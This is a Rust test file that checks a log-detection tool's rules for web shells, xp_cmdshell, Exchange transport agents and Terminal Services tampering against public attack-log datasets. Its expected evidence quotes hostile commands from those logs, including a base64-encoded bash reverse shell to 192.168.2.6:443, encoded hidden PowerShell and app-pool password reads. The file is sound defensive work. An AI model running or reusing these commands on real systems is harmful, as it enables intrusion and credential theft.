//! The pack on the real public data in ../shared/corpus: every T1505 behaviour there raises the
//! expected alert, and nothing else in those files raises one (the benign records around the
//! attacks, thousands of them in the ProxyLogon and Log4Shell data sets, stay silent).

use std::process::Command;

const BIN: &str = env!("CARGO_BIN_EXE_cqlhunt");
const ROOT: &str = env!("CARGO_MANIFEST_DIR");

/// One expected alert: rule, host, the start of its evidence, and why it is right.
struct Want(&'static str, &'static str, &'static str, &'static str);

fn alerts(file: &str) -> Vec<(String, String, String)> {
    let path = format!("{ROOT}/../shared/corpus/{file}");
    let out =
        Command::new(BIN).args(["detect", "-q", "-o", "ndjson", &path]).current_dir(ROOT).output().expect("detect");
    assert!(out.status.success(), "{file}: {}", String::from_utf8_lossy(&out.stderr));
    let mut v: Vec<(String, String, String)> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| {
            let a: serde_json::Value = serde_json::from_str(l).expect("alert");
            let s = |k: &str| a[k].as_str().unwrap_or("").to_string();
            (s("Rule"), s("ComputerName"), s("Evidence"))
        })
        .collect();
    v.sort();
    v
}

/// Evidence is compared by its start, ignoring case (Windows writes the same path in several
/// cases: `inetsrv`, `InetSRV`).
fn starts(e: &str, prefix: &str) -> bool {
    e.to_lowercase().starts_with(&prefix.to_lowercase())
}

fn check(file: &str, want: &[Want]) {
    let got = alerts(file);
    for w in want {
        assert!(
            got.iter().any(|(r, h, e)| r == w.0 && h == w.1 && starts(e, w.2)),
            "{file}: missing {} on {} ({}): {}\ngot: {got:#?}",
            w.0,
            w.1,
            w.2,
            w.3
        );
    }
    // Nothing else: every alert is one of the expected ones.
    for (r, h, e) in &got {
        assert!(
            want.iter().any(|w| r == w.0 && h == w.1 && starts(e, w.2)),
            "{file}: unexpected alert {r} on {h}: {e}"
        );
    }
}

#[test]
fn iis_web_shells() {
    check(
        "EVTX-ATTACK-SAMPLES/Lateral Movement/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx",
        &[
            Want(
                "webshell-shell-child-windows",
                "IEWIN7",
                "\"c:\\windows\\system32\\cmd.exe\" /c net user",
                "w3wp.exe started cmd.exe: the web shell's command",
            ),
            Want(
                "webshell-grandchild-recon",
                "IEWIN7",
                "net  user",
                "net.exe under that cmd.exe: account recon two levels below w3wp.exe",
            ),
        ],
    );
    check(
        "EVTX-ATTACK-SAMPLES/Execution/exec_sysmon_webshell_w3wp_enum.evtx",
        &[
            Want(
                "webshell-shell-child-windows",
                "win10.windomain.local",
                "\"c:\\windows\\system32\\cmd.exe\" /c whoami",
                "w3wp.exe → cmd.exe /c whoami",
            ),
            Want(
                "webshell-shell-child-windows",
                "win10.windomain.local",
                "\"c:\\windows\\system32\\cmd.exe\" /c systeminfo",
                "w3wp.exe → cmd.exe /c systeminfo",
            ),
            Want(
                "webshell-shell-child-windows",
                "win10.windomain.local",
                "\"c:\\windows\\system32\\cmd.exe\" /c dir",
                "w3wp.exe → cmd.exe /c dir",
            ),
            Want("webshell-grandchild-recon", "win10.windomain.local", "whoami", "whoami.exe under w3wp.exe's cmd.exe"),
            Want(
                "webshell-grandchild-recon",
                "win10.windomain.local",
                "systeminfo",
                "systeminfo.exe under w3wp.exe's cmd.exe",
            ),
        ],
    );
}

#[test]
fn sql_server_xp_cmdshell_and_clr() {
    check(
        "EVTX-ATTACK-SAMPLES/Lateral Movement/sysmon_1_exec_via_sql_xpcmdshell.evtx",
        &[Want(
            "mssql-shell-child",
            "MSEDGEWIN10",
            "\"C:\\Windows\\system32\\cmd.exe\" /c set",
            "sqlservr.exe → cmd.exe: xp_cmdshell running a command",
        )],
    );
    check(
        "EVTX-ATTACK-SAMPLES/Lateral Movement/LM_xp_cmdshell_MSSQL_Events.evtx",
        &[
            Want(
                "mssql-xp-cmdshell-enabled",
                "MSEDGEWIN10",
                "xp_cmdshell = 1",
                "15457: xp_cmdshell turned on (0 → 1); turning it off again is not an alert",
            ),
            Want(
                "mssql-xp-cmdshell-enabled",
                "MSEDGEWIN10",
                "EXEC master..xp_cmdshell 'Whoami'",
                "33205: the audit record of the xp_cmdshell call",
            ),
        ],
    );
    check(
        "EVTX-to-MITRE-Attack/TA0003-Persistence/T1505.001-SQL Stored Procedures/ID15457-SQL Server CMDshell enabled.evtx",
        &[Want("mssql-xp-cmdshell-enabled", "mssql01.offsec.lan", "xp_cmdshell = 1", "15457: xp_cmdshell 0 → 1")],
    );
    check(
        "EVTX-to-MITRE-Attack/TA0003-Persistence/T1505.001-SQL Stored Procedures/ID15457-SQL server CLR lateral movement.evtx",
        &[Want("mssql-clr-enabled", "mssql01.offsec.lan", "clr enabled = 1", "15457: CLR integration turned on, the step before loading an assembly")],
    );
}

#[test]
fn exchange_transport_agents() {
    check(
        "EVTX-to-MITRE-Attack/TA0003-Persistence/T1505-Server Software Component/ID6-Failed to install an Exchange transport agent.evtx",
        &[
            Want("exchange-transport-agent-cmdlet", "exchange01.offsec.lan", "Install-TransportAgent -Name \"Evil\"", "the cmdlet log of the install attempt (it failed: the DLL was missing)"),
            Want("exchange-transport-agent-cmdlet", "exchange01.offsec.lan", "Enable-TransportAgent -Identity \"hack\"", "the attempt to enable it"),
        ],
    );
    check(
        "EVTX-to-MITRE-Attack/TA0003-Persistence/T1505-Server Software Component/ID11-Exchange transport config modified.evtx",
        &[Want("exchange-transport-agent-config", "exchange01.offsec.lan", "\\Device\\HarddiskVolume5\\Exchange2016\\TransportRoles\\Shared\\agents.config", "agents.config edited by notepad++.exe, not by Exchange's cmdlets")],
    );
}

#[test]
fn iis_credentials_read_through_a_web_shell() {
    check(
        "EVTX-ATTACK-SAMPLES/Credential Access/discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx",
        &[
            Want("webshell-shell-child-windows", "IEWIN7", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"", "w3wp.exe → powershell.exe: the web shell's interpreter"),
            Want("webshell-grandchild-recon", "IEWIN7", "\"C:\\Windows\\System32\\inetsrv\\appcmd.exe\"", "appcmd.exe under w3wp.exe's powershell: app-pool passwords and site configuration read (list apppool /text:processmodel.password, list vdir)"),
        ],
    );
}

#[test]
fn sql_server_blocked_xp_cmdshell() {
    check(
        "EVTX-ATTACK-SAMPLES/Lateral Movement/MSSQL_15281_xp_cmdshell_exec_failed_attempt.evtx",
        &[Want(
            "mssql-xp-cmdshell-enabled",
            "LAPTOP-JU4M3I0E",
            "xp_cmdshell",
            "15281: a call to xp_cmdshell blocked because it is off, the attempt before enabling it",
        )],
    );
}

#[test]
fn terminal_services_dll() {
    check(
        "EVTX-ATTACK-SAMPLES/Defense Evasion/sysmon_13_rdp_settings_tampering.evtx",
        &[
            Want("termsrv-dll-tampering", "PC04.example.corp", "\"C:\\Windows\\System32\\takeown.exe\" /f  C:\\Windows\\System32\\termsrv.dll", "UniversalTermsrvPatch takes ownership of termsrv.dll to patch it in place"),
            Want("termsrv-dll-tampering", "PC04.example.corp", "\"C:\\Windows\\System32\\icacls.exe\" C:\\Windows\\System32\\termsrv.dll /grant", "… and grants itself (and Everyone) full control of it"),
            Want("termservice-servicedll-changed", "PC04.example.corp", "\\REGISTRY\\MACHINE\\System\\CurrentControlSet\\services\\TermService\\Parameters = %%ProgramFiles%%\\RDP Wrapper\\rdpwrap.dll", "RDPWInst.exe points TermService's ServiceDll at rdpwrap.dll"),
        ],
    );
}

#[test]
fn proxylogon_chain() {
    let f = "Security-Datasets/datasets/atomic/windows/persistence/host/proxylogon_ssrf_rce_poc.zip";
    check(
        f,
        &[
            Want("webshell-shell-child-windows", "MXS01.azsentinel.local", "cmd /c whoami", "w3wp.exe → cmd /c whoami through ohyeah.aspx (Sysmon 1 and 4688)"),
            Want("webshell-exchange-sharepoint-child", "MXS01.azsentinel.local", "cmd /c whoami", "the same process under an Exchange worker: w3wp.exe with an MSExchange application pool (Sysmon) or as LocalSystem (4688)"),
            Want("webshell-grandchild-recon", "MXS01.azsentinel.local", "whoami", "whoami.exe under w3wp.exe's cmd.exe"),
            Want("exchange-virtual-directory-script", "MXS01.azsentinel.local", "Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl \"http://ffff/#<script", "the OAB virtual directory's URL set to China Chopper script (the exported .aspx shell of CVE-2021-27065)"),
            Want("webshell-file-written-webroot", "MXS01.azsentinel.local", "\\Device\\HarddiskVolume3\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\ohyeah.aspx", "the web shell itself, written under OWA's auth folder (outside the seed's web-root list)"),
        ],
    );
}

#[test]
fn log4shell_java_to_shell() {
    let l = "Security-Datasets/datasets/compound/Log4Shell";
    check(
        &format!("{l}/syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip"),
        &[
            Want(
                "webshell-shell-child-linux",
                "UBUNTU5",
                "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}",
                "java (the vulnerable Tomcat) → bash: the JNDI payload's reverse shell",
            ),
            Want("webshell-grandchild-recon", "UBUNTU5", "base64 -d", "base64 decoding under java's bash"),
        ],
    );
    for f in [
        "securityauditing_log4shell_cve2021_44228_java_serialized_object.zip",
        "sysmon_log4shell_cve2021_44228_java_serialized_object.zip",
    ] {
        check(
            &format!("{l}/{f}"),
            &[Want("webshell-shell-child-windows", "WORKSTATION5", "powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc", "tomcat9.exe → encoded PowerShell: the serialized-object payload (4688 and Sentinel WindowsEvent Sysmon 1)")],
        );
    }
    // The same attack seen by auditd through AUOMS (Sentinel Syslog rows): java's failed execs
    // name the JVM as the shell's parent.
    check(
        &format!("{l}/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip"),
        &[
            Want(
                "webshell-shell-child-linux",
                "UBUNTU5",
                "bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}",
                "java → bash -c …|base64 -d|bash -i: the reverse shell",
            ),
            Want("webshell-grandchild-recon", "UBUNTU5", "base64 -d", "base64 under java's bash"),
        ],
    );
}
